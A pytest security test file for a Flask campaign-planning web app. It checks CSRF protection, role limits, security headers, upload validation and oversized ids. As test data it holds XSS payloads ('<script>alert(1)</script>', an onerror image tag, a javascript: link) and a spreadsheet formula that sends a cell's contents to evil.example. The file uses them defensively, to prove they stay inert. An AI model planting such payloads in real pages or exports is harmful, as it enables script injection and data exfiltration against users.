"""Bad input and attacks: forged requests without the CSRF token, people acting beyond their
role, broken uploads, script payloads in every campaign field, pages that would load something
from another origin, and the security headers every response carries."""

from __future__ import annotations

import re

import pytest
from flask.testing import FlaskClient
from sqlalchemy import func, select

from campaigns.schema import AuditEntry, Campaign, CampaignUpload, Delivery, Post
from campaigns.store import session_factory
from tests.conftest import EXAMPLES
from tests.web.conftest import Workspace, post_form

PAGES = (
    "/calendar",
    "/calendar?view=week&date=2027-03-21",
    "/calendar?view=list&date=2027-03-01",
    "/approvals",
    "/approvals/expired",
    "/campaigns",
    "/operations",
    "/reports",
    "/audit",
    "/users",
    "/me",
)
ACTIONS = {
    # path: (form, the permission it needs, someone without it)
    "/posts/1/decide": ({"decision": "approve"}, "post.approve", "anna"),
    "/approvals/bulk": ({"post": "1", "confirmed": "yes"}, "post.approve", "olga"),
    "/operations/deliveries": ({"action": "cancel", "delivery": "1"}, "delivery.cancel", "pavel"),
    "/operations/channels/de-x/resume": ({}, "channel.resume", "anna"),
    "/campaigns/upload": ({}, "campaign.plan", "olga"),
    "/users": ({"username": "eve", "roles": "admin"}, "user.manage", "marat"),
    "/users/anna": ({"action": "disable"}, "user.manage", "pavel"),
}


def _counts(ws: Workspace) -> tuple[int, ...]:
    with session_factory(ws.engine)() as s:
        return tuple(
            s.scalar(select(func.count()).select_from(t)) or 0
            for t in (Campaign, Post, Delivery, CampaignUpload)
        )


@pytest.mark.parametrize("path", sorted(ACTIONS))
def test_state_changes_without_the_csrf_token_are_refused(ws: Workspace, path: str) -> None:
    form, _permission, _ = ACTIONS[path]
    client = ws.client("admin")
    before = _counts(ws)
    assert client.post(path, data=form).status_code == 403
    assert client.post(path, data={**form, "csrf_token": "forged"}).status_code == 403
    assert _counts(ws) == before


@pytest.mark.parametrize("path", sorted(ACTIONS))
def test_people_without_the_role_get_403(ws: Workspace, path: str) -> None:
    form, _permission, outsider = ACTIONS[path]
    client = ws.client(outsider)
    audit_before = _audit_count(ws)
    response = post_form(client, path, form)
    assert response.status_code == 403
    assert "Not allowed" in response.get_data(as_text=True)
    assert _audit_count(ws) == audit_before


def _audit_count(ws: Workspace) -> int:
    with session_factory(ws.engine)() as s:
        return s.scalar(select(func.count()).select_from(AuditEntry)) or 0


@pytest.mark.parametrize(
    ("user", "page"), [("anna", "/reports"), ("pavel", "/audit"), ("marat", "/users")]
)
def test_pages_beyond_a_role_are_403(ws: Workspace, user: str, page: str) -> None:
    assert ws.client(user).get(page).status_code == 403


def test_every_page_sends_the_security_headers_and_loads_nothing_from_elsewhere(
    ws: Workspace,
) -> None:
    client = ws.client("admin")
    for page in (*PAGES, "/login", "/posts/1", "/campaigns/de-2027-gateway"):
        response = (ws.client() if page == "/login" else client).get(page)
        assert response.status_code == 200, page
        h = response.headers
        csp = h["Content-Security-Policy"]
        assert "script-src 'self'" in csp and "unsafe-inline" not in csp, page
        assert "frame-ancestors 'none'" in csp and h["X-Frame-Options"] == "DENY"
        assert h["X-Content-Type-Options"] == "nosniff"
        assert h["Referrer-Policy"] == "same-origin"
        html = response.get_data(as_text=True)
        assert not _external(html), (page, _external(html))
        assert "<script>" not in html and " on" + "click=" not in html  # no inline script


def test_pages_are_kept_for_back_but_secrets_downloads_and_the_api_never(
    ws: Workspace,
) -> None:
    """``private, no-cache``: Back shows a page as it was (its form as typed), no proxy keeps
    it. ``no-store``: a page showing a one-time secret, a downloaded file, the API."""
    from tests.web.conftest import post_form

    admin = ws.client("admin")
    for page in (*PAGES, "/login", "/posts/1"):
        response = (ws.client() if page == "/login" else admin).get(page)
        assert response.headers["Cache-Control"] == "private, no-cache", page
        # The session cookie changes with every answer: a copy varying by it is never reused.
        assert "cookie" not in response.headers.get("Vary", "").lower(), page
    refused = post_form(admin, "/users", {"username": "anna", "roles": ["author"]}, page="/users")
    assert refused.status_code == 422
    assert refused.headers["Cache-Control"] == "private, no-cache"
    issued = post_form(admin, "/users/marat", {"action": "token", "name": "CRM"}, page="/users")
    assert issued.status_code == 302
    shown = admin.get(issued.headers["Location"])
    assert "shown once" in shown.text and shown.headers["Cache-Control"] == "no-store"
    assert admin.get("/users").headers["Cache-Control"] == "private, no-cache"  # secret gone
    marat = ws.client("marat")
    download = marat.get("/reports/download.xlsx")
    assert download.headers["Content-Disposition"].startswith("attachment")
    assert download.headers["Cache-Control"] == "no-store"
    assert ws.client().get("/api/v1/posts").headers["Cache-Control"] == "no-store"
    assert admin.get("/static/elshi.css").headers["Cache-Control"] != "no-store"
    out = post_form(admin, "/logout", {})
    assert out.status_code == 302 and out.headers["Clear-Site-Data"] == '"cache"'


def _external(html: str) -> list[str]:
    """src/href/action values pointing at another origin (links to published posts aside)."""
    found = re.findall(r'(?:src|href|action)="((?:https?:)?//[^"]+)"', html)
    return [u for u in found if "rel=" not in u]


def test_a_broken_upload_shows_located_errors_and_changes_nothing(ws: Workspace) -> None:
    text = (EXAMPLES / "germany.yaml").read_text(encoding="utf-8")
    broken = text.replace("country: DE", "country: Germany").replace(
        "    category: media_pr\n", "    category: press-release\n", 1
    )
    client = ws.client("anna")
    before = _counts(ws), _audit_count(ws)
    response = _upload(client, "germany.yaml", broken.encode())
    page = response.get_data(as_text=True)
    assert response.status_code == 422
    assert "nothing was changed" in page
    country_line = broken.splitlines().index("  country: Germany") + 1
    assert f'id="L{country_line}"' in page and "two-letter country code" in page
    assert "press-release" in page
    assert (_counts(ws), _audit_count(ws)) == before


@pytest.mark.parametrize(
    "content",
    [b"", b"\xff\xfe\x00bad bytes", b"campaign: [unclosed", b"- just\n- a list\n"],
    ids=["empty", "not-utf8", "syntax", "not-a-mapping"],
)
def test_unreadable_uploads_change_nothing(ws: Workspace, content: bytes) -> None:
    before = _counts(ws)
    response = _upload(ws.client("anna"), "c.yaml", content)
    assert response.status_code in (302, 422)
    assert _counts(ws) == before


def test_a_file_that_is_not_a_campaign_file_is_refused(ws: Workspace) -> None:
    response = _upload(ws.client("anna"), "evil.html", b"<script>alert(1)</script>")
    assert response.status_code == 422
    assert _counts(ws)[3] == 0


def _upload(client: FlaskClient, name: str, content: bytes, **media: bytes) -> object:
    import io

    data: dict[str, object] = {"file": (io.BytesIO(content), name)}
    if media:
        data["media"] = [(io.BytesIO(v), k) for k, v in media.items()]
    return post_form(client, "/campaigns/upload", data, page="/campaigns")


PAYLOAD = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(2)>"


def _hostile_campaign() -> str:
    text = (EXAMPLES / "germany.yaml").read_text(encoding="utf-8")
    text = text.replace(
        'title: "Kasachstan – Tor nach Eurasien (Deutschland 2027)"', f'title: "{PAYLOAD}"'
    )
    text = text.replace('name: "Allgemeine Öffentlichkeit"', f'name: "{IMG}"')
    text = text.replace(
        "    gateway-to-eurasia: >-\n", f"    gateway-to-eurasia: >-\n      {PAYLOAD}\n", 1
    )
    text = text.replace(
        "link: https://www.gov.kz/memleket/entities/mfa-berlin",
        'link: "https://example.org/?q=\\"><script>alert(3)</script>"',
        1,
    )
    return text.replace("Willkommen im Jahr 2027!", f"Willkommen {PAYLOAD} {IMG}", 1)


def test_script_payloads_in_campaign_fields_are_inert_on_every_page(ws: Workspace) -> None:
    client = ws.client("anna")
    media = {p.name: p.read_bytes() for p in (EXAMPLES / "media").glob("*.png")}
    response = _upload(client, "hostile.yaml", _hostile_campaign().encode(), **media)
    assert response.status_code == 302, response.get_data(as_text=True)[:2000]
    plan = client.get(response.headers["Location"])
    _inert(plan.get_data(as_text=True))
    upload_id = response.headers["Location"].rsplit("/", 1)[-1]
    post_form(client, f"/campaigns/uploads/{upload_id}/apply", {}, page="/campaigns")
    admin = ws.client("admin")
    with session_factory(ws.engine)() as s:
        post_ids = list(s.scalars(select(Post.id).where(Post.key == "year-opening")))
    pages = (
        *PAGES,
        "/calendar?date=2027-01-12",
        "/calendar?view=list&date=2027-01-12",
        "/campaigns/de-2027-gateway",
        *(f"/posts/{i}" for i in post_ids),
        "/reports/document",
    )
    for page in pages:
        html = admin.get(page).get_data(as_text=True)
        _inert(html)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in admin.get("/campaigns").get_data(as_text=True)
    # Downloads: the campaign file and the report files are attachments, never rendered.
    download = admin.get("/campaigns/de-2027-gateway/file")
    assert download.headers["Content-Disposition"].startswith("attachment")
    assert download.headers["Content-Type"] == "application/octet-stream"
    for fmt in ("csv",):
        report = admin.get(f"/reports/download.{fmt}")
        assert report.status_code == 200
        assert report.headers["Content-Disposition"].startswith("attachment")
        assert report.headers["X-Content-Type-Options"] == "nosniff"


def _inert(html: str) -> None:
    assert "<script>alert" not in html
    assert "<img src=x" not in html
    assert 'href="javascript:' not in html.replace(" ", "")


FORMULA = '=HYPERLINK("https://evil.example/?c="&A1,"open")'


def test_a_javascript_link_in_a_campaign_is_refused_at_its_line_and_shown_inert(
    ws: Workspace,
) -> None:
    text = (EXAMPLES / "germany.yaml").read_text(encoding="utf-8")
    hostile = text.replace(
        "link: https://www.gov.kz/memleket/entities/mfa-berlin", "link: javascript:alert(4)", 1
    )
    client = ws.client("anna")
    before = _counts(ws), _audit_count(ws)
    response = _upload(client, "germany.yaml", hostile.encode())
    page = response.get_data(as_text=True)  # type: ignore[attr-defined]
    assert response.status_code == 422  # type: ignore[attr-defined]
    line = hostile.splitlines().index("    link: javascript:alert(4)") + 1
    assert f'id="L{line}"' in page and "nothing was changed" in page
    _inert(page)
    assert 'href="javascript' not in page.replace(" ", "").lower()
    assert (_counts(ws), _audit_count(ws)) == before


def test_every_download_keeps_hostile_text_inert(ws: Workspace) -> None:
    """A campaign whose title, audience and text carry script and a spreadsheet formula: the
    campaign file comes back as the bytes uploaded (an attachment, never rendered); in the
    report's XLSX no cell is a formula, in its CSV no field starts a formula, and JSON is
    served as JSON; each an attachment with nosniff."""
    import io
    import json
    import zipfile

    from openpyxl import load_workbook

    hostile = _hostile_campaign().replace(f'title: "{PAYLOAD}"', f"title: '{FORMULA}{PAYLOAD}'")
    hostile = hostile.replace(f'name: "{IMG}"', f"name: '{FORMULA}'")
    client = ws.client("anna")
    media = {p.name: p.read_bytes() for p in (EXAMPLES / "media").glob("*.png")}
    response = _upload(client, "hostile.yaml", hostile.encode(), **media)
    assert response.status_code == 302  # type: ignore[attr-defined]
    upload_id = response.headers["Location"].rsplit("/", 1)[-1]  # type: ignore[attr-defined]
    post_form(client, f"/campaigns/uploads/{upload_id}/apply", {}, page="/campaigns")
    manager = ws.client("admin")

    download = manager.get("/campaigns/de-2027-gateway/file")
    assert download.data == hostile.encode()
    assert download.headers["Content-Disposition"].startswith("attachment")
    texts: list[str] = []
    for fmt, mimetype in (
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("csv", "application/zip"),
        ("json", "application/json"),
    ):
        got = manager.get(f"/reports/download.{fmt}?campaign=de-2027-gateway")
        assert got.status_code == 200, fmt
        assert got.headers["Content-Type"].startswith(mimetype), fmt
        assert got.headers["Content-Disposition"].startswith("attachment"), fmt
        assert got.headers["X-Content-Type-Options"] == "nosniff"
        if fmt == "xlsx":
            book = load_workbook(io.BytesIO(got.data))
            for sheet in book.worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                        if isinstance(cell.value, str):
                            texts.append(cell.value)
        elif fmt == "csv":
            with zipfile.ZipFile(io.BytesIO(got.data)) as archive:
                for name in archive.namelist():
                    body = archive.read(name).decode("utf-8")
                    for field in (f for line in body.splitlines() for f in line.split(",")):
                        assert not field.strip('"').startswith(("=", "+", "@")), (name, field)
                    texts.append(body)
        else:
            texts.append(json.dumps(got.json))
    # The payload is there, as text (the report names the campaign), not dropped.
    assert any("HYPERLINK" in t for t in texts)


HUGE = "99999999999999999999"
ODD_ADDRESSES = (
    # Row ids larger than a database integer, in the path, the query and forms.
    f"/posts/{HUGE}",
    f"/calendar?audience={HUGE}",
    f"/reports?audience={HUGE}",
    f"/audit?before={HUGE}",
    f"/campaigns/de-2027-gateway/file?version={HUGE}",
    f"/campaigns/de-2027-gateway/file?upload={HUGE}",
    f"/api/v1/campaigns/de-2027-gateway/file?version={HUGE}",
    # Days at the ends of the calendar, where a period's arithmetic overflows.
    "/calendar?date=9999-12-31",
    "/calendar?view=week&date=0001-01-01",
    "/calendar?view=list&date=9999-12-31",
    "/audit?since=0001-01-01&until=9999-12-31",
    "/reports?until=9999-12-31",
    "/reports/download.json?as_of=9999-12-31",
    # Arguments a page does not take are ignored, whatever their name.
    "/reports?fmt=x&campaign=de-2027-gateway",
)


@pytest.mark.parametrize("address", ODD_ADDRESSES)
def test_odd_addresses_get_an_answer_never_a_server_error(ws: Workspace, address: str) -> None:
    """Numbers too large for the database and days beyond a period's arithmetic are refused
    (400/404) or ignored, never an exception inside a query (500)."""
    client = ws.client("admin")
    api = {"Authorization": f"Bearer {_api_token(ws)}"} if address.startswith("/api/") else {}
    response = client.get(address, headers=api)
    assert response.status_code in (200, 400, 404), (address, response.status_code)


def test_forms_with_ids_too_large_change_nothing_and_answer(ws: Workspace) -> None:
    client = ws.client("admin")
    before = _counts(ws)
    for path, form in (
        ("/operations/deliveries", {"action": "cancel", "delivery": HUGE}),
        ("/approvals/bulk", {"post": HUGE, "confirmed": "yes"}),
        ("/users/anna", {"action": "revoke", "token": HUGE}),
        ("/operations/pauses/1/resume", {f"d{HUGE}": "send"}),
    ):
        response = post_form(client, path, form)
        assert response.status_code < 500, (path, response.status_code)
    api = {"Authorization": f"Bearer {_api_token(ws, 'olga')}"}
    response = client.post(
        "/api/v1/pauses/1/resume", headers=api, json={"send": [int(HUGE)], "skip": [True]}
    )
    assert response.status_code == 400, response.json
    assert _counts(ws) == before


def _api_token(ws: Workspace, username: str = "admin") -> str:
    from campaigns import people

    with session_factory(ws.engine)() as s:
        who = people.active_person(s, username)
        _t, plain = people.issue_token(s, username, name="odd", by=who, now=ws.clock())
        s.commit()
    return plain
